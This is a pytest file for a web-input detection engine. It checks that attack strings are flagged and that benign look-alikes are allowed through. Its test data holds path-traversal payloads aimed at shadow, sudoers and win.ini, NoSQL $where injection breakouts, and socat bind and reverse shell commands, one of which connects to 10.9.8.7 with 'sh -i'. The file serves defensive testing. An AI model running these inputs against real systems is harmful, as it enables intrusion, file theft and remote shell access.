"""Unit: traversal, NoSQL and socat shapes of the fresh17 first contact. A climb of dot-dot units whose slashes are
spelled by escapes no standard decoder reads (old IIS's invalid hex ``%c1%pc``, ``%bg%qf``, the private-use
``%uEFC8``, the double-percent ``%%35%%63``) still ends in a file worth stealing; a ``$where`` breakout that returns
and then declares a variable to re-open the string; socat joining a socket to a shell. Prose naming the same files,
code that returns, and socat port forwards pass. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.engine import ANALYSERS
from bastion.detection.shell import is_cmdi
from bastion.detection.signatures import nosqli, traversal

QUERY = Context("query", "file")
BODY = Context("body", "comment")
HEADER = Context("header", "x-template")
COOKIE = Context("cookie", "theme")

SHAPES: dict[str, tuple[str, Context, str]] = {
    # a dot-dot climb whose slashes are junk escapes, ending in a file worth stealing
    "invalid_hex_slash_to_win_ini": ("..%qg%bf..%qg%bf..%qg%bfwin.ini", QUERY, "traversal"),
    "iis_lax_backslash_to_shadow": (".?%c1%zc.?%c1%zcetc%c1%zcshadow", BODY, "traversal"),
    "private_use_slash_to_hosts": (
        "..%uE0A1..%uE0A1..%uE0A1windows%uE0A1system32%uE0A1drivers%uE0A1etc%uE0A1hosts",
        HEADER,
        "traversal",
    ),
    "double_percent_slash_to_group": (
        "%c0%2e%c0%2e%%32%%66%c0%2e%c0%2e%%32%%66etc%%32%%66group",
        COOKIE,
        "traversal",
    ),
    "question_dots_control_char": ("??\x02%7%z??\x02%7%zsystem.ini", QUERY, "traversal"),
    "fullwidth_dots_broken_escape": (
        "%uff0e%uff0e%2%f%uff0e%uff0e%2%fboot.ini",
        Context("path", "segment"),
        "traversal",
    ),
    "two_depths_differing_separators": ("..%qg%bf..%c1%zcwin.ini", BODY, "traversal"),
    "climb_as_object_key": (
        "..%bg%zz..%bg%zz..%bg%zzetc%bg%zzsudoers",
        Context("body", "attrs", is_key=True),
        "traversal",
    ),
    # a $where breakout that returns, then declares a variable to re-open the string or number
    "quote_return_collection_read": ("x'; return db.users.count(); var pad='", QUERY, "nosqli"),
    "number_return_comparison": ("7; return this.role == 'admin'; var pad=0", BODY, "nosqli"),
    "number_return_constant_let": ("3; return false; let q=9", HEADER, "nosqli"),
    "bare_return_after_loop": ("5; var t = 0; while (t < 99) { t++; } return; var pad=5", COOKIE, "nosqli"),
    "double_quote_return_const": ('z"; return 1 == 1; const k="', Context("path", "segment"), "nosqli"),
    # socat joining a socket to a shell
    "socat_listen_exec_bash": ("socat tcp-listen:5555 exec:/bin/bash", QUERY, "cmdi"),
    "socat_connect_exec_quoted_pty": ("socat TCP:10.9.8.7:9001 EXEC:'sh -i',pty,stderr", BODY, "cmdi"),
    "socat_after_separator_system": ("x; socat udp-l:53 system:zsh", HEADER, "cmdi"),
    "socat_windows_cmd": ("socat.exe tcp-l:1234 exec:cmd.exe", COOKIE, "cmdi"),
}


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_shape_is_refused_by_its_class(name: str, engine: Engine) -> None:
    value, ctx, attack = SHAPES[name]
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == attack, name
    assert ANALYSERS[attack](value, ctx) is not None, name


LOOK_ALIKES = [
    # the same files named in text, after punctuation that is no climb
    "Back up boot.ini and win.ini before you edit them.",
    "**boot.ini** is gone on Windows Vista and later",
    "-->-->boot.ini",
    "...boot.ini was renamed",
    "%20%20boot.ini",
    "%0d%0a%0d%0asystem.ini",
    "What?? What??etc%?passwd",
    "etc...passwd is a typo for the account file",
    "Progress: 50%..60%..70% of win.ini parsed",
    "`grep root etc-passwd.txt` in the fixtures folder",
    # code and prose that return, and declare where a guarded return lets them
    "The hook should return true; variables are reset after that.",
    "if (ready) return cached; var fresh = load();",
    "function f() { return 1; }\nvar x = f();",
    "Call save(); return early; variance = 2 is fine",
    "a = 1; return a == b; var == 2",
    "Use `return false;` in the handler, then `var ok = true` below.",
    # socat port forwards and prose
    "socat TCP-LISTEN:8080,fork TCP:backend:80",
    "Run `socat - UNIX-CONNECT:/var/run/app.sock` to talk to the daemon.",
    "socat is handy for exec: style relays, see the man page",
]


@pytest.mark.parametrize("value", LOOK_ALIKES)
def test_look_alikes_pass(value: str, engine: Engine) -> None:
    assert engine.inspect(value, BODY) is None, value


def test_new_scans_stay_linear() -> None:
    size = 128 * 1024
    long_values = [
        "..%bg%qf" * (size // 8),
        "%c1%pcetc%c1%pcpasswd" * (size // 21),
        ("..%qf" * 16 + "boot.ini") * (size // 88),
        "; return " * (size // 9),
        "; return x" + " " * size,
        "socat " * (size // 6),
        "socat " + "a" * size + " exec:",
    ]
    for value in long_values:
        start = time.process_time()
        traversal(value, BODY)
        nosqli(value, BODY)
        is_cmdi(value)
        assert time.process_time() - start < 1.0, value[:20]
